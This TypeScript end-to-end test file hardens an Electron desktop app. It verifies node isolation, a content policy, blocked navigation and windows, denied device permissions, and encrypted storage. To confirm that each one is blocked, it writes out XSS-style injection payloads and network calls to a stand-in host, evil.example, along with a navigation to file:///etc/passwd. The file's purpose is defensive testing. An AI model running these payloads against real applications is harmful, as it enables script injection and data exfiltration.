import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { hardened } from '../../main/desktop/window.ts';
import { pageUrl } from '../../main/desktop/protocol.ts';
import type { Device } from './harness/device.ts';
import { renderersOf, repository } from './harness/electron.ts';
import { screenEnvironment } from './harness/environment.ts';
import { expect, test } from './harness/story.ts';

/**
 * Run `source` in the page as the page's own code would: not under the debugger, for which the policy makes exceptions.
 * Resolves with what it comes to, or with the name of what it throws.
 */
function inPage(device: Device, source: string): Promise<unknown> {
  return device.page.evaluate(
    `new Promise((resolve) => setTimeout(async () => {
      try { resolve(await (async () => { ${source} })()); } catch (error) { resolve(error.name); }
    }))`,
  );
}

/** How often the main process has said that it denied something. */
function denials(device: Device, what: string): number {
  return device.running.output().split(`"event":"page.${what}Denied"`).length - 1;
}

test('E-02 E-03 a page runs with the preferences written down, and with nothing of Node', async ({
  newDevice,
}) => {
  const device = await newDevice('desk');
  const all = await device.running.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) =>
      // Not among Electron's types; it tells what the page really runs with, where that can be read back.
      (contents as typeof contents & { getLastWebPreferences(): object }).getLastWebPreferences(),
    ),
  );
  expect(all).toHaveLength(1);
  const asked: Record<string, unknown> = { ...hardened };
  const running = Object.entries(all[0] ?? {}).filter(([name]) => name in asked);
  expect(running.length).toBeGreaterThan(5);
  expect(Object.fromEntries(running)).toEqual(
    Object.fromEntries(running.map(([name]) => [name, asked[name]])),
  );
  expect(
    await inPage(
      device,
      'return [typeof require, typeof process, typeof module, typeof global, typeof Buffer].join()',
    ),
  ).toBe('undefined,undefined,undefined,undefined,undefined');
});

test('E-07 no code and no content comes in past the policy', async ({ newDevice }) => {
  const device = await newDevice('desk');
  await device.running.app.evaluate(({ webContents }) => {
    const urls: string[] = [];
    Object.assign(globalThis, { requested: urls });
    webContents.getAllWebContents()[0]?.session.webRequest.onBeforeRequest(({ url }, go) => {
      urls.push(url);
      go({});
    });
  });
  const element = (tag: string, set: string): string =>
    `const made = document.createElement('${tag}'); ${set}; document.body.append(made);`;
  const breach = `globalThis.breached.push(1)`;
  await device.page.evaluate('globalThis.breached = []');
  const attempts = [
    element('script', `made.textContent = '${breach}'`),
    element('script', `made.src = 'data:text/javascript,${breach}'`),
    element('script', `made.src = 'https://evil.example/x.js'`),
    element('script', `made.src = URL.createObjectURL(new Blob(['${breach}']))`),
    element('div', `made.innerHTML = '<img src=x onerror="${breach}">'`),
    element('img', `made.setAttribute('onerror', '${breach}'); made.src = 'x'`),
    element('a', `made.href = 'javascript:${breach}'; setTimeout(() => made.click())`),
    element('iframe', `made.srcdoc = '<script>parent.breached.push(1)</script>'`),
    element('iframe', `made.src = 'data:text/html,<script>parent.breached.push(1)</script>'`),
    element('iframe', `made.src = 'https://evil.example/'`),
    element('object', `made.data = 'https://evil.example/'`),
    element('embed', `made.src = 'https://evil.example/'`),
    element('img', `made.src = 'https://evil.example/x.png'`),
    element('video', `made.src = 'https://evil.example/x.mp4'`),
    element('link', `made.rel = 'stylesheet'; made.href = 'https://evil.example/x.css'`),
    element('link', `made.rel = 'prefetch'; made.href = 'https://evil.example/x'`),
    element('base', `made.href = 'https://evil.example/'`),
    element('webview', `made.setAttribute('src', 'https://evil.example/')`),
    `eval('${breach}')`,
    `new Function('${breach}')()`,
    `setTimeout('${breach}', 0)`,
    `import('data:text/javascript,${breach}')`,
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => ${breach}`,
    `await navigator.serviceWorker.register('x.js'); ${breach}`,
    `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); ${breach}`,
    `await fetch('https://evil.example/'); ${breach}`,
    `await fetch('index.html'); ${breach}`,
    `const ask = new XMLHttpRequest(); ask.open('GET', 'https://evil.example/', false); ask.send(); ${breach}`,
    `new WebSocket('wss://evil.example/').onopen = () => ${breach}`,
    `new EventSource('https://evil.example/').onopen = () => ${breach}`,
    `navigator.sendBeacon('https://evil.example/', 'x')`,
    `document.write('<script>${breach}</script>')`,
  ];
  for (const attempt of attempts) await inPage(device, attempt);
  await inPage(device, `await new Promise((later) => setTimeout(later, 200))`);
  expect(await device.page.evaluate('globalThis.breached')).toEqual([]);
  const requested = await device.running.app.evaluate(
    () => (globalThis as typeof globalThis & { requested: string[] }).requested,
  );
  expect(requested.filter((url) => !url.startsWith('app://main/'))).toEqual([]);
  await inPage(device, breach);
  expect(await device.page.evaluate('globalThis.breached')).toEqual([1]);
});

test('E-25 E-13 E-14 a page stays where it is and opens nothing', async ({ newDevice }) => {
  const device = await newDevice('desk');
  await expect(device.composer).toBeVisible();
  await inPage(device, 'globalThis.neverLeft = true');
  const link = (href: string, more = ''): string =>
    `const made = document.createElement('a'); made.href = ${JSON.stringify(href)}; ${more};
     document.body.append(made); made.click(); made.remove();`;
  const leaving = [
    `location.href = 'https://evil.example/'`,
    `location.assign('app://main/other.html')`,
    `location.replace('app://main.evil/index.html')`,
    `location.href = 'app://main@evil/index.html'`,
    link('https://evil.example/'),
    link('//evil.example/'),
    link('index.html?x'),
    link('https://evil.example/', `made.target = '_top'`),
  ];
  for (const way of leaving) {
    const before = denials(device, 'navigation');
    await inPage(device, way);
    await expect.poll(() => denials(device, 'navigation'), { message: way }).toBeGreaterThan(before);
  }
  // Refused by the page's own process, so nothing reaches main.
  await inPage(device, `location.href = 'file:///etc/passwd'`);
  await inPage(device, `location.href = 'javascript:document.body.remove()'`);
  const opening = [
    `window.open('https://evil.example/')`,
    `window.open('about:blank')`,
    `window.open('')`,
    `window.open('${pageUrl}')`,
    link('https://evil.example/', `made.target = '_blank'`),
  ];
  for (const way of opening) {
    const before = denials(device, 'window');
    await inPage(device, way);
    await expect.poll(() => denials(device, 'window'), { message: way }).toBeGreaterThan(before);
  }
  await inPage(
    device,
    link('#', `made.href = URL.createObjectURL(new Blob(['x'])); made.download = 'x.desktop'`),
  );
  await expect.poll(() => denials(device, 'download')).toBe(1);
  const windows = await device.running.app.evaluate(
    ({ BrowserWindow, webContents }) =>
      [BrowserWindow.getAllWindows().length, webContents.getAllWebContents().length] as const,
  );
  expect([device.page.url(), ...windows]).toEqual([pageUrl, 1, 1]);
  expect(await inPage(device, `return [globalThis.neverLeft, document.forms.length].join()`)).toBe('true,1');
});

test('E-05 a page may put text on the clipboard, and use nothing else', async ({ newDevice }) => {
  const device = await newDevice('desk');
  await device.composer.click();
  const asked = {
    'clipboard, to write': `await navigator.clipboard.writeText('copied'); return 'granted'`,
    'clipboard, to read': `await navigator.clipboard.readText(); return 'granted'`,
    camera: `await navigator.mediaDevices.getUserMedia({ video: true }); return 'granted'`,
    microphone: `await navigator.mediaDevices.getUserMedia({ audio: true }); return 'granted'`,
    screen: `await navigator.mediaDevices.getDisplayMedia({ video: true }); return 'granted'`,
    place: `return new Promise((resolve) => navigator.geolocation.getCurrentPosition(
      () => resolve('granted'), () => resolve('refused')))`,
    notifications: `return (await Notification.requestPermission()) === 'granted' ? 'granted' : 'refused'`,
    midi: `await navigator.requestMIDIAccess(); return 'granted'`,
    usb: `await navigator.usb.requestDevice({ filters: [] }); return 'granted'`,
    serial: `await navigator.serial.requestPort(); return 'granted'`,
    hid: `return (await navigator.hid.requestDevice({ filters: [] })).length > 0 ? 'granted' : 'refused'`,
    bluetooth: `await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return 'granted'`,
    'idle time': `return (await IdleDetector.requestPermission()) === 'granted' ? 'granted' : 'refused'`,
    fonts: `return (await queryLocalFonts()).length > 0 ? 'granted' : 'refused'`,
    files: `if (typeof showOpenFilePicker === 'function') return 'granted'`,
    pointer: `await document.body.requestPointerLock();
      await new Promise((later) => setTimeout(later, 100));
      return document.pointerLockElement ? 'granted' : 'refused'`,
  };
  const granted = [];
  for (const [name, ask] of Object.entries(asked)) {
    if ((await inPage(device, ask)) === 'granted') granted.push(name);
  }
  expect(granted).toEqual(['clipboard, to write']);
});

test('E-28 a page that was killed comes back, and with it what it showed', async ({ newDevice }) => {
  const device = await newDevice('desk');
  await device.write('Still here?');
  await device.waitUntilSent('Still here?');
  const [first] = renderersOf(device.running.pid);
  process.kill(first ?? 0, 'SIGKILL');
  await expect.poll(() => device.running.output()).toContain('"event":"page.gone"');
  await expect
    .poll(() =>
      device.running.app.evaluate(({ webContents }) =>
        webContents.getAllWebContents()[0]?.executeJavaScript('document.body.innerText'),
      ),
    )
    .toContain('Still here?');
});

test('E-24 a second start on the same data ends at once, and the window comes forward', async ({
  newDevice,
}) => {
  const device = await newDevice('desk');
  await device.running.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.minimize());
  const electron = join(process.env['ELECTRON_OVERRIDE_DIST_PATH'] ?? '', 'electron');
  const second = spawn(electron, [repository, `--user-data-dir=${device.userDataDir}`], {
    env: { ...screenEnvironment(), ...device.keyring.env },
    stdio: 'ignore',
  });
  const [code] = await once(second, 'exit');
  expect(code).toBe(0);
  await expect
    .poll(() =>
      device.running.app.evaluate(({ BrowserWindow }) =>
        BrowserWindow.getAllWindows().map((window) => window.isVisible() && !window.isMinimized()),
      ),
    )
    .toEqual([true]);
});

test('the app quits in order when the system asks it to end', async ({ newDevice }) => {
  const device = await newDevice('desk');
  await expect(device.composer).toBeVisible();
  const main = device.running.app.process();
  const gone = once(main, 'exit');
  process.kill(device.running.pid, 'SIGTERM');
  expect(await gone).toEqual([0, null]);
});

test('R-06 R-07 what is written rests nowhere in clear, neither while the app runs nor after a power cut', async ({
  newDevice,
}) => {
  const device = await newDevice('desk');
  const canary = 'quokka-7f3a-heron';
  await device.write(canary);
  await device.waitUntilSent(canary);
  const folders = [device.userDataDir, device.keyring.env['HOME'] ?? ''];
  const running = folders.flatMap(filesBelow);
  expect(running.length).toBeGreaterThan(5);
  expect(holding(running, canary)).toEqual([]);
  await device.kill();
  expect(holding(folders.flatMap(filesBelow), canary)).toEqual([]);
  const control = join(device.userDataDir, 'control');
  writeFileSync(control, Buffer.from(`x${canary}`, 'utf16le'));
  expect(holding(folders.flatMap(filesBelow), canary)).toEqual([control]);
});

function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

/** The files that hold `text`, in the encodings Chromium and SQLite write. Files that vanish meanwhile hold nothing. */
function holding(files: readonly string[], text: string): string[] {
  const needles = [Buffer.from(text), Buffer.from(text, 'utf16le'), Buffer.from(text).toString('base64')];
  return files.filter((file) => {
    try {
      const bytes = readFileSync(file);
      return needles.some((needle) => bytes.includes(needle));
    } catch {
      return false;
    }
  });
}
